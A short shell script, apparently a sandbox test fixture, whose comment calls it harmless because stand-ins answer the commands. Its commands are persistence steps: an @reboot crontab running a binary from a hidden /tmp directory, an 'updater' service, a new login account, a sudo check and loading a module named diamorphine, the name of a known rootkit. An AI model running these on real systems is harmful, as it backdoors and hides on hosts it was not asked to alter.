#!/bin/sh
# Harmless: administration tools the sandbox has no use for (recording stand-ins answer them):
# a crontab, a systemd service enabled, an account created, sudo, a module loaded (issue 17).
crontab -l 2>/dev/null
echo '@reboot /tmp/.u/agent' | crontab -
systemctl enable --now updater.service
useradd -m -s /bin/bash svc-backup
sudo -n id
modprobe diamorphine
exit 0
